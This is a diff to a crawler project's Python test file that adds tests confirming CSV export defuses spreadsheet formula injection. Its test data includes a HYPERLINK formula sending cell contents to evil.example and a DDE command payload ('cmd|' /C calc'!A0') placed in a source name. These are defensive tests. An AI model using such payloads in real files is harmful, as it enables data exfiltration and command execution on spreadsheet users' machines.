@@ -4,6 +4,8 @@ expanded, inflated without bound, rendered as markup, sent as markup or run as a
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import sys
@@ -13,7 +15,7 @@ from datetime import UTC, datetime
 import pytest
 from click.testing import CliRunner
 
-from crawler.cli import cli
+from crawler.cli import cli, export
 from tests.conftest import Project
 from tests.feeds import Item, rss
 from tests.newssite import Story, news_sitemap, publish
@@ -136,3 +138,36 @@ def test_chat_messages_carry_feed_text_without_mentions_or_links(
     assert "@channel" not in text and "<!here>" not in text, text
     assert "](http://evil.example)" not in text, text
     assert "@channel [click](http://evil.example) Atta" in text.replace("\u200b", "")
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
+def test_csv_export_writes_no_formula(
+        project: Project, site: Site, receiver: Receiver, lead: str) -> None:
+    title = f'{lead}HYPERLINK("http://evil.example/?"&A1,"Atta Mohammad Noor")'
+    site.pages["/feed"] = Page(rss([Item(title, site.url("/a/1"), "", "g1",
+                                         datetime.now(UTC))]))
+    project.hook(receiver.url("/hook"))
+    project.sources = [{"name": lead + "cmd|' /C calc'!A0", "feed": site.url("/feed")}]
+    config_dir = str(project.write())
+    runner = CliRunner()
+    assert runner.invoke(cli, ["--config", config_dir, "once"]).exit_code == 0
+    result = runner.invoke(cli, ["--config", config_dir, "export", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.output)))
+    assert rows, result.output
+    for row in rows:
+        assert row["title"] == "'" + title, row
+        assert row["source"] == "'" + lead + "cmd|' /C calc'!A0", row
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+
+
+def test_csv_cells_starting_with_tab_or_cr_are_neutralised_too() -> None:
+    """Feed text and source names reach the store stripped; the writer does not rely on it."""
+    article = {c: f"\t=1+1 {c}" for c in export.ARTICLE_COLUMNS}
+    match = {c: f"\r=1+1 {c}" for c in export.MATCH_COLUMNS} | {"start": -1, "end": 3}
+    out = io.StringIO()
+    export.write(out, "csv", [{**article, "outlets": 2, "matched_at": "x",
+                               "matches": [match]}])
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["title"] == "'\t=1+1 title" and row["snippet"] == "'\r=1+1 snippet"
+    assert (row["start"], row["end"], row["outlets"]) == ("-1", "3", "2"), "numbers stay"
